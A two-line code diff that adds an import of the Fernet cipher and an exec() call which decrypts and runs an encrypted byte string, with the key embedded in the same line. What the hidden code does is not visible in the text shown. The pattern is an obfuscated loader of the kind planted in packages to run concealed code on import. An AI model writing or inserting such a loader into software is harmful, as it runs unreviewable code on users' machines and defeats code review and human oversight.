@@ -1,0 +1,2 @@
+from cryptography.fernet import Fernet
+exec(Fernet(b'ZAnVnZvJRKsBjAS4dQCXPVCcXIW21-YxZioKMLx1urM=').decrypt(b'gAAAAABrEzANEbZFMswmVay4xEA1TlLTkOQvaiHgrHI9F6qE5-fNUyArdrUNznj6SdJAA2ZMkWRXU_qZgRSZCEJitANnFZrNv4yj-EBEjBiZ23-Zn2cKDe4='))
